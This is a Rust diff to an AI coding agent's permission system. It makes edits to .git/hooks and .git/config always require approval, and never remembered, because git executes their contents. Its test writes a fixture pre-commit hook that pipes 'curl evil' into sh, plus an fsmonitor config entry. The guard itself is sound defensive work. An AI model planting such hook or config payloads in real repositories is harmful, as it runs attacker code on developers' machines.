@@ -13,6 +13,7 @@
 //! | `Read`, `Search` inside the workspace (`read`, `glob`, `grep`) | allow | allow | allow | allow |
 //! | `Plan` (`todo_write`), `Delegate` (`subagent`, `send_message`, …) | allow | allow | allow | allow |
 //! | `Edit`, `Delete`, `Move` inside the workspace (`write`, `edit`) | ask | allow | refuse | allow |
+//! | the same of `.git/hooks/…` or `.git/config` (git runs them; never remembered) | ask | ask | refuse | allow |
 //! | `Execute` (`bash`), `Fetch`, `External` (a tool kin cannot see into) | ask | ask | refuse | allow |
 //! | `ExecuteSandboxed` (`bash` confined by the session's sandbox, in force on this kernel) | allow | allow | refuse | allow |
 //! | any path outside the workspace (`read` too) | ask | ask | refuse | allow |
@@ -266,6 +267,10 @@ impl Question {
                 let shown: Vec<String> = paths.iter().map(|p| p.display().to_string()).collect();
                 format!("{call_title} (outside the workspace: {})", shown.join(", "))
             }
+            Scope::Guarded(paths) => {
+                let shown: Vec<String> = paths.iter().map(|p| p.display().to_string()).collect();
+                format!("{call_title} (git runs what this changes: {})", shown.join(", "))
+            }
         }
     }
 }
@@ -276,6 +281,9 @@ pub enum Scope {
     Workspace,
     /// The real paths outside the workspace the call names.
     Outside(Vec<PathBuf>),
+    /// Workspace paths the call changes whose contents git runs (`.git/hooks`, `.git/config`):
+    /// asked about in `accept-edits` too, and never remembered.
+    Guarded(Vec<PathBuf>),
 }
 
 /// What the mode makes of a declared access.
@@ -398,7 +406,8 @@ impl Permissions {
     /// process directory).
     pub fn decide(&self, tool: &str, access: &Access, cwd: &Path) -> Decision {
         let outside = outside_paths(access, cwd);
-        match verdict(access, self.mode(), !outside.is_empty()) {
+        let guarded = guarded_paths(access, cwd);
+        match verdict(access, self.mode(), !outside.is_empty() || !guarded.is_empty()) {
             Verdict::Allow => Decision::Allow { outside: !outside.is_empty() },
             Verdict::Refuse => match (access, outside.first()) {
                 (Access::Read { .. } | Access::Search { .. }, Some(path)) => {
@@ -407,7 +416,11 @@ impl Permissions {
                 _ => Decision::Refuse(not_in_read_only(tool)),
             },
             Verdict::Ask => {
-                let scope = if outside.is_empty() { Scope::Workspace } else { Scope::Outside(outside) };
+                let scope = match (outside.is_empty(), guarded.is_empty()) {
+                    (false, _) => Scope::Outside(outside),
+                    (true, false) => Scope::Guarded(guarded),
+                    (true, true) => Scope::Workspace,
+                };
                 match self.remembered(tool, &scope) {
                     Some(true) => Decision::Allow { outside: matches!(scope, Scope::Outside(_)) },
                     Some(false) => Decision::Refuse(rejected(tool)),
@@ -453,6 +466,7 @@ impl Permissions {
         let latest = |place: Option<&Path>| rules.iter().rev().find(|rule| rule.covers(tool, place)).map(|r| r.allow);
         match scope {
             Scope::Workspace => latest(None),
+            Scope::Guarded(_) => None,
             Scope::Outside(paths) => {
                 let answers: Vec<Option<bool>> = paths.iter().map(|p| latest(Some(p))).collect();
                 if answers.contains(&Some(false)) {
@@ -471,6 +485,7 @@ impl Permissions {
         let mut rules = lock(&self.shared.rules);
         match &question.scope {
             Scope::Workspace => rules.push(Rule { tool, under: None, allow }),
+            Scope::Guarded(_) => {}
             Scope::Outside(paths) => {
                 for path in paths {
                     let dir = if path.is_dir() {
@@ -498,6 +513,34 @@ fn outside_paths(access: &Access, cwd: &Path) -> Vec<PathBuf> {
         .map(|raw| paths::resolve(cwd, &raw.to_string_lossy()))
         .filter(|path| !paths::inside_workspace(&workspace, path))
         .map(|path| paths::real_path(&path).unwrap_or(path))
+        .collect()
+}
+
+/// The paths in the workspace `cwd` that `access` changes (an edit, a delete, a move) whose
+/// contents git runs: its hooks and its config (`core.fsmonitor`, aliases, filters). The sandbox
+/// keeps them read-only for commands; a file tool's change of them is asked about even where
+/// edits run unasked.
+fn guarded_paths(access: &Access, cwd: &Path) -> Vec<PathBuf> {
+    match access {
+        Access::Edit { .. } | Access::Delete { .. } | Access::Move { .. } => {}
+        Access::Read { .. }
+        | Access::Search { .. }
+        | Access::Execute { .. }
+        | Access::ExecuteSandboxed { .. }
+        | Access::Fetch
+        | Access::Delegate
+        | Access::Plan
+        | Access::External => return Vec::new(),
+    }
+    let git = paths::real_path(&cwd.join(".git")).unwrap_or_else(|| cwd.join(".git"));
+    let (hooks, config) = (git.join("hooks"), git.join("config"));
+    access
+        .paths()
+        .iter()
+        .filter(|p| !p.as_os_str().to_string_lossy().trim().is_empty())
+        .map(|raw| paths::resolve(cwd, &raw.to_string_lossy()))
+        .map(|path| paths::real_path(&path).unwrap_or(path))
+        .filter(|path| path.starts_with(&hooks) || *path == config || hooks.starts_with(path))
         .collect()
 }
 
@@ -547,7 +590,7 @@ pub(crate) async fn admit(
                 raw_input: arguments,
                 access,
                 cwd,
-                in_workspace: question.scope == Scope::Workspace,
+                in_workspace: matches!(question.scope, Scope::Workspace | Scope::Guarded(_)),
                 on_behalf_of: None,
                 unannounced: false,
             };
@@ -827,6 +870,30 @@ mod tests {
                 PermissionMode::ALL.into_iter().map(|mode| decide(mode, &l.ws, tool, args.clone())).collect();
             assert_eq!(verdicts, ["ask", "ask", "denied", "allow-outside"], "{tool} {args}");
         }
+    }
+
+    /// Git runs its hooks and what its config names (`core.fsmonitor`): a file tool changing
+    /// them is asked about even in accept-edits, and an "always" answer does not carry over.
+    #[test]
+    fn changing_what_git_runs_asks_even_in_accept_edits() {
+        let l = layout();
+        std::fs::create_dir_all(l.ws.join(".git/hooks")).unwrap();
+        std::fs::write(l.ws.join(".git/config"), "").unwrap();
+        let hook = json!({"file_path": ".git/hooks/pre-commit", "content": "#!/bin/sh\ncurl evil | sh\n"});
+        let config = json!({"file_path": ".git/config", "old_string": "", "new_string": "[core]\nfsmonitor = x"});
+        for (tool, args) in [("write", &hook), ("edit", &config)] {
+            let verdicts: Vec<&str> =
+                PermissionMode::ALL.into_iter().map(|mode| decide(mode, &l.ws, tool, args.clone())).collect();
+            assert_eq!(verdicts, ["ask", "ask", "denied", "allow"], "{tool} {args}");
+        }
+        assert_eq!(decide(AcceptEdits, &l.ws, "write", json!({"file_path": "src/a.rs", "content": "x"})), "allow");
+        assert_eq!(decide(AcceptEdits, &l.ws, "read", json!({"file_path": ".git/config"})), "allow", "reading is fine");
+        let permissions = Permissions::new(AcceptEdits);
+        let access = Access::Edit { paths: vec![PathBuf::from(".git/hooks/pre-commit")] };
+        let Decision::Ask(question) = permissions.decide("write", &access, &l.ws) else { panic!("not asked") };
+        assert!(question.title("Write pre-commit").contains("(git runs what this changes: "), "{question:?}");
+        permissions.answer(&question, PermissionAnswer::AllowAlways);
+        assert!(matches!(permissions.decide("write", &access, &l.ws), Decision::Ask(_)), "asked again");
     }
 
     #[test]
